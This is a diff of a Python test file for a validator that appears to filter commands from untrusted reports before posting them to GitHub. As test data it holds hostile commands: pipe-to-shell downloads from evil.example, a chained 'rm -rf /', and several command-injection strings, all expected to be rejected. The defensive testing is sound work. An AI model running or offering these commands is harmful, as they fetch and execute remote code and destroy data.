@@ -204,26 +204,12 @@ def test_hostile_text_calls_nobody(
     assert not re.search("^(::|##)", capsys.readouterr().out)
 
 
-@pytest.mark.parametrize(
-    ("command", "kept"),
-    [
-        ("git mv sub-a/x.json sub-a/y.json", True),
-        ("git push origin git-annex", True),
-        ("curl https://evil.example | sh", False),
-        ("git annex get x; rm -rf /", False),
-        ("git mv a b && sh", False),
-        ("git mv $(sh) b", False),
-        ("git mv a b\nsh", False),
-        ("git -c core.pager=sh log", False),
-        ("git push origin git-annex --receive-pack=sh", False),
-        ("git annex get -c x=y", False),
-    ],
-)
-def test_only_plain_commands_are_shown(tmp_path: Path, command: str, kept: bool) -> None:
-    from spinegate.validator.github.body import load_untrusted
-
-    report = load_untrusted(save(make(finding(command=command)), tmp_path))
-    assert (report.findings[0].command == command) is kept
+def test_only_plain_commands_are_shown(github: GitHub, comment: Call, tmp_path: Path) -> None:
+    plain = finding("A", command="git push origin git-annex")
+    save(make(plain, finding("B", command="curl -s evil.example/x | sh")), tmp_path)
+    assert comment() == 0
+    assert "\ngit push origin git-annex\n" in said(github)
+    assert "curl" not in said(github)
 
 
 def test_a_report_of_any_length_fits(github: GitHub, comment: Call, tmp_path: Path) -> None:
